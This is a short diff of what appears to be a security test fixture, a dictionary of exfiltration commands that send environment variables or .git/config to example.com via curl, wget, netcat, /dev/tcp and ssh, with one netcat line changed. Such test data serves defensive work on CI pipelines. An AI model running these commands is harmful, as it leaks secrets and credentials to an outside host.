@@ -7,7 +7,7 @@ from attacks.workflow import CI, PULL, before, run, step
 SENT = {
     "with curl": 'curl -d "$(env)" example.com',
     "with wget": "wget --post-file=.git/config example.com",
-    "with netcat": "env | nc example.com 9",
+    "with netcat": "nc example.com 9 < .git/config",
     "with the shell": "env > /dev/tcp/example.com/9",
     "with ssh": "ssh a@example.com env",
 }
